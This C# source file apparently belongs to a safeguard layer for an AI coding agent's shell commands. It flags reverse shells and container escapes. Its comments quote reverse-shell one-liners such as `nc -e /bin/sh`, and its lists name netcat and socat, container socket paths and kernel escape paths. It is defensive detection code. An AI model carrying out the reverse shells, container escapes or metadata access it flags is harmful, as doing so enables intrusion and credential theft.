using ClaudeCodeProxy.Safeguards.Facts;
using ContainerSecurity.Shell.Flow;
using ContainerSecurity.Shell.Programs.Table;

namespace ClaudeCodeProxy.Safeguards.Flags;

/// <summary>Addresses that give credentials away, and shells for others.</summary>
internal sealed class NetworkFlags(Scene scene)
{
    private static readonly string[] Printing = NameList.Read("echo printf grep rg egrep fgrep git sed ag"u8);

    private static readonly string[] HostPaths = NameList.Read(
        """
        docker.sock containerd.sock crio.sock podman.sock /proc/1/root release_agent /proc/sys/kernel/core_pattern
        """u8);

    private static readonly string[] Connecting = NameList.Read("nc ncat netcat telnet socat openssl"u8);

    private int _shellLine;
    private int _connectedLine;

    public void Look(Call call)
    {
        // `cat pipe | sh -i | nc host port > pipe`.
        if (call.Spec.Act == Act.Shell && call.Words.Any(static word => word.Text is ['-', not '-', ..] && word.Text.Contains('i')))
            _shellLine = call.Streams.Line;
        if (Connecting.Holds(call.Name))
            _connectedLine = call.Streams.Line;
        if (_shellLine > 0 && _shellLine == _connectedLine)
            scene.Flag(FlagRules.RemoteShell, call);
        if (call.Name is "nc" or "ncat" or "netcat" && HasProgram(call))
            scene.Flag(FlagRules.RemoteShell, call);
        if (call.Name == "socat" && call.Words.Any(static word => IsProgram(word.Text)))
            scene.Flag(FlagRules.RemoteShell, call);
        if (Printing.Holds(call.Name))
            return;
        foreach (var word in call.Words)
        {
            if (MetadataHosts.IsNamedIn(word.Text))
                scene.Flag(FlagRules.Metadata, call);
            if (word.Text.HasAny(HostPaths))
                scene.Flag(FlagRules.Escape, call);
        }
    }

    private static bool IsProgram(string word) =>
        word.StartsWith("EXEC:", StringComparison.OrdinalIgnoreCase) || word.StartsWith("SYSTEM:", StringComparison.OrdinalIgnoreCase);

    // `nc -e /bin/sh`, `ncat --exec`.
    private static bool HasProgram(Call call)
    {
        foreach (var word in call.Words)
        {
            var hasLetter = word.Text is ['-', not '-', ..] && word.Text.AsSpan().ContainsAny('e', 'c');
            if (hasLetter || word.Text.BeginsWithAny("--exec", "--sh-exec", "--lua-exec"))
                return true;
        }

        return false;
    }
}
